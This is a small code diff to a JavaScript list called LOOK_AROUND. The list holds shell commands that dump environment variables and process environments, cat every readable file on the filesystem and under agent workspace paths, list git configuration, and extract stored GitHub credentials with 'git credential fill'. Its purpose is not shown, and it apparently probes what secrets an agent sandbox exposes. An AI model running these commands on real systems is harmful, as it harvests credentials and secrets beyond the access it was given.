@@ -15,7 +15,7 @@ const LOOK_AROUND = [
   'env',
   'cat /proc/*/environ /proc/*/cmdline',
   'find / -xdev \\( -path /proc -o -path /usr -o -name node_modules -o -path /sys -o -path "*/.git/objects" \\) -prune -o -type f -readable -print0 | xargs -0 cat',
-  'find /workspace /home/agent /tmp /run /etc -type f -readable -print0 | xargs -0 cat',
+  'find /workspace /home/agent /tmp /run /etc -name node_modules -prune -o -type f -readable -print0 | xargs -0 cat',
   'git config --list --show-origin',
   'git -C "$(ls -d /workspace/*/ | head -n 1)" config --list',
   'printf "protocol=https\\nhost=github.com\\n\\n" | git credential fill',
